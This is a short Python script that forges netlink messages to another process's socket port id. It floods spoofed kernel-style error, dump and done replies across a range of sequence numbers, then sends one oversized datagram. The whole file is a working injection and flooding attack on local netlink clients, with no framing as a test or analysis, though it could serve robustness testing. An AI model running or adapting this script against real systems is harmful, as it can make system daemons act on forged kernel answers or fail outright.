# Sends netlink datagrams to another socket's port id, as any process with
# CAP_NET_ADMIN can: spoofed answers (NLMSG_ERROR with -EPERM, a fake dump
# ending in NLMSG_DONE) carrying the target's port id and every sequence
# number in a range, then one datagram larger than any the kernel sends.
#   python3 inject.py <port id> <first seq> <count>
import socket
import struct
import sys

NLMSG_ERROR, NLMSG_DONE, NLM_F_MULTI = 2, 3, 2
port, first, count = (int(a) for a in sys.argv[1:4])
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16)  # NETLINK_GENERIC
s.bind((0, 0))


def msg(type_, flags, seq, payload):
    return struct.pack('=IHHII', 16 + len(payload), type_, flags, seq, port) + payload


sent = 0
for start in range(first, first + count, 100):
    parts = []
    for seq in range(start, min(start + 100, first + count)):
        echoed = struct.pack('=IHHII', 16, 0x10, 5, seq, port)
        parts.append(msg(NLMSG_ERROR, 0, seq, struct.pack('=i', -1) + echoed))
        parts.append(msg(0x10, NLM_F_MULTI, seq, bytes(64)))  # a dump message of no family
        parts.append(msg(NLMSG_DONE, NLM_F_MULTI, seq, struct.pack('=i', 0)))
    sent += s.sendto(b''.join(parts), (port, 0))
sent += s.sendto(msg(NLMSG_ERROR, 0, first, struct.pack('=i', -1) + bytes(100_000)), (port, 0))
print(sent)
